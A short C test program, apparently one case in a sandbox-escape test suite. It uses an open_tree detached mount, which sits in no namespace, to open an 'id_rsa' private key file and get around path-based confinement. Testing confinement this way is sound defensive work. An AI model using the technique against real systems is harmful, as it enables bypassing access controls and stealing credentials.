/* SPDX-License-Identifier: Apache-2.0 */
/* Opens through a detached mount that is in no namespace: its path ends at no root (open_tree without move_mount). */
#define ATTACK "detached-mount"
#include "attack.h"

int main(int count, char **argument)
{
	int tree;

	(void)count;
	become_namespace_root(CLONE_NEWNS);
	tree = prepare("open_tree", syscall(SYS_open_tree, AT_FDCWD, argument[1], 1 | AT_RECURSIVE));
	leak("open", intended("open", openat(tree, "id_rsa", O_RDONLY)));
}
